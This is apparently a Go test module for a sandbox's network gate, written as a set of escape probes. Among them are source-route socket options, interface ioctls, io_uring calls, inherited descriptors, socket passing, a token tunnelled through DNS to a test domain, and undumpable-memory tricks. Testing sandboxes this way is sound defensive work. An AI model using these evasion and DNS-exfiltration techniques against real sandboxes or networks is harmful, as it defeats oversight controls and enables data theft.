package attack

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// sockopt is one setsockopt that bends a connection.
type sockopt struct {
	name       string
	domain     uintptr
	level, opt uintptr
	value      []byte
	privileged bool // the kernel wants a capability: only how far it comes counts
}

func number(n uint32) []byte { return binary.NativeEndian.AppendUint32(nil, n) }

func number64(n uintptr) []byte { return binary.NativeEndian.AppendUint64(nil, uint64(n)) }

// looseRoute is an IP option: loose source route by one address. A connect to
// any destination then sends its SYN to that address first (tcp_v4_connect).
func looseRoute(via net.IP) []byte {
	return append([]byte{131, 7, 4}, append(via.To4(), 0)...)
}

// segmentRoute is an IPv6 routing header of type 4 with one segment
// (seg6_validate_srh), with the same effect (tcp_v6_connect).
func segmentRoute() []byte {
	h := []byte{0, 2, 4, 0, 0, 0, 0, 0}
	return append(h, net.IPv6loopback...)
}

func sockopts() []sockopt {
	one := number(1)
	lo := append([]byte("lo"), 0)
	route := looseRoute(net.IPv4(127, 0, 0, 2))
	return []sockopt{
		// Newer kernels want CAP_NET_RAW for a source route.
		{"source_route", unix.AF_INET, unix.IPPROTO_IP, unix.IP_OPTIONS, route, true},
		{"source_route_v6_socket", unix.AF_INET6, unix.IPPROTO_IP, unix.IP_OPTIONS, route, true},
		{"source_route_level_high_bits", unix.AF_INET, unix.IPPROTO_IP | high, unix.IP_OPTIONS, route, true},
		{"source_route_name_high_bits", unix.AF_INET, unix.IPPROTO_IP, unix.IP_OPTIONS | high, route, true},
		{"option_bytes", unix.AF_INET, unix.IPPROTO_IP, unix.IP_OPTIONS, []byte{68, 12, 5, 0, 'p', 'i', 'g', 'e', 'o', 'n', 's', '!'}, false},
		{"routing_header", unix.AF_INET6, unix.IPPROTO_IPV6, unix.IPV6_RTHDR, segmentRoute(), false},
		{"routing_header_rfc2292", unix.AF_INET6, unix.IPPROTO_IPV6, unix.IPV6_2292PKTOPTIONS, make([]byte, 24), false},
		{"interface", unix.AF_INET, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, lo, false},
		{"interface_index", unix.AF_INET, unix.SOL_SOCKET, unix.SO_BINDTOIFINDEX, one, false},
		{"other_protocol_on_top", unix.AF_INET, unix.IPPROTO_TCP, unix.TCP_ULP, []byte("espintcp\x00"), true},
		{"mptcp_on_top", unix.AF_INET, unix.IPPROTO_TCP, unix.TCP_ULP, []byte("mptcp\x00"), true},
		{"smc_on_top", unix.AF_INET, unix.IPPROTO_TCP, unix.TCP_ULP, []byte("smc\x00"), true},
		{"repair", unix.AF_INET, unix.IPPROTO_TCP, unix.TCP_REPAIR, one, true},
		{"transparent", unix.AF_INET, unix.IPPROTO_IP, unix.IP_TRANSPARENT, one, true},
		{"mark", unix.AF_INET, unix.SOL_SOCKET, unix.SO_MARK, one, true},
		{"hop_by_hop", unix.AF_INET6, unix.IPPROTO_IPV6, unix.IPV6_HOPOPTS, make([]byte, 8), true},
	}
}

// socketOptions sets what would send a brokered connection another way. That
// the option is taken is enough: from then on the kernel chooses the way.
func socketOptions(a *agent) {
	for _, o := range sockopts() {
		f := func() error {
			fd, err := socket(o.domain, unix.SOCK_STREAM, 0)
			if err != nil {
				return faultf("socket: %w", err)
			}
			defer unix.Close(fd)
			_, err = call(unix.SYS_SETSOCKOPT, uintptr(fd), o.level, o.opt, a.heap.put(o.value), uintptr(len(o.value)))
			if o.name == "routing_header_rfc2292" && err == unix.EINVAL {
				return nil // it was read, and the control message in it found wanting
			}
			return absentIf(err, a, "this option", unix.ENOPROTOOPT, unix.ENOENT)
		}
		if o.privileged {
			a.probe(o.name, f)
		} else {
			a.try(o.name, f)
		}
	}
}

// interfaceCalls change the host's network by ioctl, for which any socket does.
func interfaceCalls(a *agent) {
	for name, request := range map[string]uintptr{
		"flags": 0x8914, "address": 0x8916, "route": 0x890b, "neighbour": 0x8955, "name": 0x8923, "bridge": 0x89a0, "queue": 0x8943,
	} {
		a.probe(name, func() error {
			fd, err := socket(unix.AF_INET, unix.SOCK_STREAM, 0)
			if err != nil {
				return faultf("socket: %w", err)
			}
			defer unix.Close(fd)
			req, at := a.heap.alloc(128) // struct ifreq, rtentry or arpreq
			copy(req, "lo")
			_, err = call(unix.SYS_IOCTL, uintptr(fd), request, at)
			if err == unix.ENOPKG {
				return &absent{"this kernel was built without bridges"}
			}
			return err
		})
	}
}

// ioUring asks for a ring; registering and entering one need no ring to be seen
// to reach the kernel.
func ioUring(a *agent) {
	params, at := a.heap.alloc(256)
	a.try("setup", func() error {
		fd, err := call(unix.SYS_IO_URING_SETUP, 4, at)
		if err == nil {
			unix.Close(int(fd))
		}
		return absentIf(err, a, "io_uring", unix.ENOSYS)
	})
	clear(params)
	a.probe("enter", func() error {
		_, err := call(unix.SYS_IO_URING_ENTER, ^uintptr(0), 0, 0, 0)
		return err
	})
	a.probe("register", func() error {
		_, err := call(unix.SYS_IO_URING_REGISTER, ^uintptr(0), 0, 0, 0)
		return err
	})
}

// inherited looks for what was open in whoever started this. The suite leaves
// one end of a socket open on purpose.
func inherited(a *agent) {
	a.try("left_open", func() error {
		if _, err := unix.Write(a.Leak, []byte(a.mark("left_open")+"\n")); err != nil {
			return &refusal{wordNothing, ""}
		}
		return nil
	})
	a.try("anything_else", func() error {
		var other []string
		for fd := 3; fd < 1024; fd++ {
			to, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			if err != nil || strings.HasPrefix(to, "anon_inode:[event") || strings.HasPrefix(to, "/proc/self/fd") || strings.HasPrefix(to, "/proc/") {
				continue // the runtime's own poller
			}
			if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil && flags&unix.FD_CLOEXEC == 0 {
				other = append(other, fmt.Sprintf("%d → %s", fd, to))
			}
		}
		if len(other) == 0 {
			return &refusal{wordNothing, ""}
		}
		return foundf("%s", strings.Join(other, ", "))
	})
}

// scmRights passes an unconnected socket through a unix pair, as to another
// process, and connects what comes out.
func scmRights(a *agent) {
	a.try("passed", func() error {
		pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return faultf("socketpair: %w", err)
		}
		fd, err := socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return faultf("socket: %w", err)
		}
		if err := unix.Sendmsg(pair[0], []byte{0}, unix.UnixRights(fd), nil, 0); err != nil {
			return faultf("sendmsg: %w", err)
		}
		unix.Close(fd)
		got, err := receiveFD(pair[1])
		if err != nil {
			return faultf("recvmsg: %w", err)
		}
		defer unix.Close(got)
		if err := a.connect(got, sockaddr(parse(a.TCP4))); err != nil {
			return err
		}
		return a.prove(got, "passed")
	})
}

func receiveFD(fd int) (int, error) {
	oob := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := unix.Recvmsg(fd, make([]byte, 1), oob, unix.MSG_CMSG_CLOEXEC)
	if err != nil {
		return -1, err
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:n])
	if err != nil || len(msgs) == 0 {
		return -1, fmt.Errorf("no control message: %v", err)
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) == 0 {
		return -1, fmt.Errorf("no descriptor: %v", err)
	}
	return fds[0], nil
}

// query is a DNS question for an A record, RFC 1035 section 4.1.
func query(name string) []byte {
	b := []byte{0x5a, 0x11, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// dnsTunnel sends a name that says something to whoever resolves names.
// Unsandboxed that is a server of the suite.
func dnsTunnel(a *agent) {
	server, stream := parse(a.UDP4), parse(a.TCP4)
	if a.Inside {
		server = at("0.0.0.0:53", "127.0.0.53")
		stream = server
	}
	label := strings.ToLower(a.Token)
	ask := append([]byte{}, query(label+".denied.attack.test")...)
	a.try("udp", func() error {
		fd, err := socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		if err := a.connect(fd, sockaddr(server)); err != nil {
			return err
		}
		if _, err := unix.Write(fd, ask); err != nil {
			return err
		}
		return a.resolved(fd, 0)
	})
	a.try("tcp", func() error {
		fd, err := socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return faultf("socket: %w", err)
		}
		defer unix.Close(fd)
		if err := a.connect(fd, sockaddr(stream)); err != nil {
			return err
		}
		framed := append([]byte{byte(len(ask) >> 8), byte(len(ask))}, ask...)
		if !a.Inside {
			framed = append(framed, '\n')
		}
		if _, err := unix.Write(fd, framed); err != nil {
			return err
		}
		return a.resolved(fd, 2)
	})
}

// resolved says whether a name server has looked the name up: it answers with
// an address, or, unsandboxed, with the greeting.
func (a *agent) resolved(fd, skip int) error {
	if err := wait(fd, unix.POLLIN, a.patient()); err != nil {
		return &refusal{wordSilent, ""}
	}
	b, at := a.heap.alloc(1024)
	n, err := call(unix.SYS_READ, uintptr(fd), at, uintptr(len(b)))
	if err != nil {
		return err
	}
	if bytes.HasPrefix(b[:n], []byte(greeting)) {
		return nil
	}
	if int(n) < skip+12 {
		return &refusal{wordCaptured, ""}
	}
	if answers := binary.BigEndian.Uint16(b[skip+6:]); answers > 0 {
		return foundf("%d answers", answers)
	}
	return &refusal{fmt.Sprintf("rcode-%d", b[skip+3]&15), ""}
}

// undumpable hides the caller's memory first: the gate can then not read the
// address, and must not let the call through for that.
func undumpable(a *agent) {
	a.try("connect", func() error {
		fd, err := socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return faultf("socket: %w", err)
		}
		defer unix.Close(fd)
		if err := unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0); err != nil {
			return faultf("prctl: %w", err)
		}
		defer unix.Prctl(unix.PR_SET_DUMPABLE, 1, 0, 0, 0)
		if err := a.connect(fd, sockaddr(parse(a.TCP4))); err != nil {
			return err
		}
		return a.prove(fd, "connect")
	})
	a.try("send", func() error {
		if err := unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0); err != nil {
			return faultf("prctl: %w", err)
		}
		defer unix.Prctl(unix.PR_SET_DUMPABLE, 1, 0, 0, 0)
		fd, err := socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		if err := a.sendto(fd, []byte(a.mark("send")), sockaddr(parse(a.UDP4)), 0); err != nil {
			return err
		}
		return a.greeted(fd)
	})
}
